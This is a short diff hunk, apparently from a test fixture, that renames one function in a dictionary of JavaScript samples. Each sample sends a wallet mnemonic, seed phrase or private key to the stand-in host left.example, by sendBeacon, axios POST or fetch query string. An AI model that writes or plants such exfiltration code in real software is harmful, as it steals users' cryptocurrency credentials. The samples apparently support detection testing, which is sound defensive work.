@@ -15,7 +15,7 @@ SENT = {
     "encoded": 'const add = (mnemonic) => navigator.sendBeacon("https://left.example/k", btoa(mnemonic));',
     "as JSON": (
         'const axios = require("axios");\n'
-        'exports.add = (seedPhrase) => axios.post("https://left.example/", { w: JSON.stringify(seedPhrase) });'
+        'exports.a = (seedPhrase) => axios.post("https://left.example/", { w: JSON.stringify(seedPhrase) });'
     ),
     "in the address": (
         "async function add(privKey) { await fetch(`https://left.example/?q=${privKey.toString('hex')}`); }"
